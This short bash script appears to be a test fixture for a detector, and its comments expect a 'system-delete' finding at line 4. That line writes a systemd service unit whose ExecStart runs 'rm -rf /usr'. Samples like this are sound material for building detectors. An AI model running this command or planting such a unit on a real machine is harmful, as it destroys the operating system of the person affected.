#!/bin/bash
# shows: a unit that systemd runs
# expect: system-delete at line 4
printf '[Service]\nExecStart=/bin/rm -rf /usr\n' > /etc/systemd/system/demo.service
